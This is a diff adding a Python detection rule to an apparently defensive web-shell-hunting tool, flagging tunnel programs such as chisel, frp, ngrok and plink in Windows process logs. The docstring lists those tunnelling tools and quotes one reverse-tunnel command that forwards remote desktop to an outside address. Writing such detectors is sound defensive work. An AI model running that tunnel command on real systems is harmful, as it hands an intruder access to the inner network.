@@ -1,0 +1,42 @@
+"""A program was started that leads connections through the server.
+
+What it finds:
+    Event 1 of Sysmon and event 4688 of the Security log: a program with the name or the arguments of a tunnel, such as
+    frp, chisel, Ligolo, EarthWorm, ngrok, ``plink -R`` and ``netsh interface portproxy``.
+
+Why it matters:
+    A tunnel gives remote desktop and the inner network to the intruder, and stays after the web shell is removed.
+
+Looks like:
+    ``plink.exe -R 3389:127.0.0.1:3389 root@203.0.113.77``.
+
+Benign look-alikes:
+    Administrators who publish a service with ngrok or cloudflared, or use ``ssh -D``: unexplained.
+
+Blind spots:
+    Renamed programs that read their arguments from a file; servers that don't audit processes or their command lines.
+
+References:
+    https://attack.mitre.org/techniques/T1572/
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+
+from webshellhunt.detectors.contract import define_rule, detector
+from webshellhunt.detectors.logged_claims import claim_acts
+from webshellhunt.model.findings import Finding
+from webshellhunt.model.rules import Confidence, Severity
+from webshellhunt.views.logged_acts import Idea, LoggedActs
+
+RULE = define_rule(
+    "WSH7218", "tunnel-started", Severity.CRITICAL, Confidence.HIGH, page=__doc__, techniques=("T1572", "T1090")
+)
+
+
+@detector(RULE, on=LoggedActs)
+def find(acts: LoggedActs) -> Iterator[Finding]:
+    """Report the acts of this idea."""
+    if acts.idea is Idea.TUNNEL_STARTED:
+        yield from claim_acts(RULE, acts, "a program made a tunnel through the server")
